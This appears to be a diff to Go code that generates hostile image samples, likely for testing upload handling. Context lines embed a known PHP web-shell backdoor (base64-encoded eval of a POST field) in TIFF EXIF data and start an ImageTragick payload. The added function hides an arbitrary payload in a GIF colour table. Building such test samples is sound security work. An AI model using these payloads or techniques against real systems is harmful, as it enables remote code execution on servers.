@@ -328,3 +328,11 @@ const imageTragickMVG = "push graphic-context\nviewbox 0 0 640 480\nfill 'url(ht
 func sucuriEXIFBackdoor() []byte {
 	return tiffLE([]tiffEntry{asciiEntry(0x010f, "/.*/e"), asciiEntry(0x0110, `eval ( base64_decode("aWYgKGlzc2V0KCRfUE9TVFsienoxIl0pKSB7ZXZhbChzdHJpcHNsYXNoZXMoJF9QT1NUWyJ6ejEiXSkpO30="));`)}, nil)
 }
+
+// gifPalettePayload writes payload into the global colour table, which
+// decoders and re-encoders copy byte for byte.
+func gifPalettePayload(g []byte, payload []byte) []byte {
+	out := bytes.Clone(g)
+	copy(out[13:13+768], payload)
+	return out
+}
